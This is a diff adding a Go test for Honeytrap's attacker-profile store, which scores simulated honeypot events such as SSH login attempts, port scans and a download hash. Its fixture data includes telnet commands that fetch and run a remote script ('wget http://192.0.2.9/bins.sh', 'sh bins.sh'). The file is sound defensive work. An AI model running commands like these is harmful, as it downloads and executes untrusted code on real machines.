@@ -0,0 +1,190 @@
+/*
+* Honeytrap
+* Copyright (C) 2016-2017 DutchSec (https://dutchsec.com/)
+*
+* This program is free software; you can redistribute it and/or modify it under
+* the terms of the GNU Affero General Public License version 3 as published by the
+* Free Software Foundation.
+*
+* This program is distributed in the hope that it will be useful, but WITHOUT
+* ANY WARRANTY; without even the implied warranty of MERCHANTABILITY or FITNESS
+* FOR A PARTICULAR PURPOSE.  See the GNU Affero General Public License for more
+* details.
+*
+* You should have received a copy of the GNU Affero General Public License
+* version 3 along with this program in the file "LICENSE".  If not, see
+* <http://www.gnu.org/licenses/agpl-3.0.txt>.
+*
+* See https://honeytrap.io/ for more details. All requests should be sent to
+* licensing@honeytrap.io
+*
+* The interactive user interfaces in modified source and object code versions
+* of this program must display Appropriate Legal Notices, as required under
+* Section 5 of the GNU Affero General Public License version 3.
+*
+* In accordance with Section 7(b) of the GNU Affero General Public License version 3,
+* these Appropriate Legal Notices must retain the display of the "Powered by
+* Honeytrap" logo and retain the original copyright notice. If the display of the
+* logo is not reasonably feasible for technical reasons, the Appropriate Legal Notices
+* must display the words "Powered by Honeytrap" and retain the original copyright notice.
+ */
+package profiles
+
+import (
+	"errors"
+	"net"
+	"sort"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+type memory struct {
+	sync.Mutex
+	m map[string][]byte
+}
+
+func (b *memory) Get(key string) ([]byte, error) {
+	b.Lock()
+	defer b.Unlock()
+
+	if v, ok := b.m[key]; ok {
+		return v, nil
+	}
+
+	return nil, errors.New("not found")
+}
+
+func (b *memory) Set(key string, data []byte) error {
+	b.Lock()
+	defer b.Unlock()
+
+	b.m[key] = data
+	return nil
+}
+
+func (b *memory) Range(prefix string, fn func(string, []byte) bool) error {
+	b.Lock()
+	defer b.Unlock()
+
+	keys := []string{}
+	for key := range b.m {
+		keys = append(keys, key)
+	}
+
+	sort.Strings(keys)
+
+	for _, key := range keys {
+		if strings.HasPrefix(key, prefix) && !fn(key, b.m[key]) {
+			break
+		}
+	}
+
+	return nil
+}
+
+type events []event.Event
+
+func (c *events) Send(e event.Event) {
+	*c = append(*c, e)
+}
+
+func TestStore(t *testing.T) {
+	backend := &memory{m: map[string][]byte{}}
+	c := &events{}
+
+	conf := DefaultConfig
+	conf.Fingerprints = []string{"ssh.client-version"}
+
+	s, err := Open(conf, backend, c)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	send := func(options ...event.Option) event.Event {
+		e := event.New(append([]event.Option{
+			event.SourceIP(net.ParseIP("192.0.2.1")),
+			event.Custom("ssh.client-version", "SSH-2.0-Go"),
+		}, options...)...)
+
+		if err := s.Enrich(e); err != nil {
+			t.Fatal(err)
+		}
+
+		return e
+	}
+
+	send(event.Type("session-start"), event.Service("ssh"))
+
+	for i := 0; i < 100; i++ {
+		send(event.Service("ssh"), event.Custom("ssh.username", "root"), event.Custom("ssh.password", "admin"))
+	}
+
+	send(event.Service("telnet"), event.Custom("command", "wget http://192.0.2.9/bins.sh"))
+	send(event.Service("telnet"), event.Custom("command", "sh bins.sh"))
+	send(event.Custom("download.sha256", strings.Repeat("a", 64)))
+	e := send(event.Custom("portscan.ports", []string{"tcp/22", "tcp/23"}))
+
+	// 2 services, 100 attempts, 2 commands and 1 hash
+	if score, _ := e.GetInt("profile.score"); score != 10+10+4+15 {
+		t.Errorf("Expected score 39, got %d", score)
+	}
+
+	if len(*c) != 2 {
+		t.Fatalf("Expected an event for the threshold of the ip and fingerprint, got %d", len(*c))
+	} else if e := (*c)[0]; e.Get("type") != "attacker-profile-updated" || e.Get("source-ip") != "192.0.2.1" {
+		t.Errorf("Expected attacker-profile-updated event, got %v", event.ToMap(e))
+	} else if threshold, _ := e.GetInt("profile.threshold"); threshold != 25 {
+		t.Errorf("Expected threshold 25, got %d", threshold)
+	}
+
+	// the events of the profiles aren't aggregated
+	s.Enrich((*c)[0])
+
+	if err := s.Close(); err != nil {
+		t.Fatal(err)
+	}
+
+	// reopen, the profiles are read from the backend
+	s, err = Open(conf, backend, c)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	defer s.Close()
+
+	p, err := s.Get("ip", "192.0.2.1")
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	if p.Events != 105 || p.Sessions != 1 || p.CredentialAttempts != 100 || len(p.Credentials) != 1 {
+		t.Errorf("Unexpected profile %+v", p)
+	} else if p.Services["ssh"] != 101 || len(p.Ports) != 2 || len(p.Hashes) != 1 {
+		t.Errorf("Unexpected profile %+v", p)
+	}
+
+	fp, err := s.Get("ssh.client-version", "SSH-2.0-Go")
+	if err != nil {
+		t.Fatal(err)
+	} else if len(fp.Sources) != 1 || fp.Sources[0] != "192.0.2.1" {
+		t.Errorf("Expected fingerprint profile with the source address, got %+v", fp)
+	}
+
+	if _, err := s.Get("ip", "192.0.2.2"); err != ErrNotFound {
+		t.Errorf("Expected profile not to be found, got %v", err)
+	}
+
+	list, err := s.List(30, 0)
+	if err != nil {
+		t.Fatal(err)
+	} else if len(list) != 2 {
+		t.Errorf("Expected 2 profiles, got %d", len(list))
+	}
+
+	if list, _ := s.List(50, 0); len(list) != 0 {
+		t.Errorf("Expected no profiles with score 50, got %d", len(list))
+	}
+}